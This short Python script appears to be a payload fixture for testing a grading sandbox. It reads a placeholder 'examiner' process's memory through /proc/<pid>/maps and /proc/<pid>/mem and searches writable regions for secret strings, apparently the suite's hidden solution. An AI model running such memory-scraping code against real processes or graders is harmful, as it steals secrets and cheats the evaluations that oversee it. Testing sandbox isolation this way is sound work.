"""Reads the examiner's memory through /proc, where the suite and the solution are.

Alone: secret
"""

import contextlib
import re

print("the payload ran", flush=True)
found = set()
with open("/proc/@examiner@/maps") as maps, open("/proc/@examiner@/mem", "rb", 0) as memory:
    for line in maps:
        region, rights = line.split()[:2]
        start, end = (int(part, 16) for part in region.split("-"))
        if rights.startswith("rw") and end - start <= 8 << 20 and not found:
            memory.seek(start)
            with contextlib.suppress(OSError):
                found |= set(re.findall(rb"secret of the \w+: \w{6}", memory.read(end - start)))
print(found)
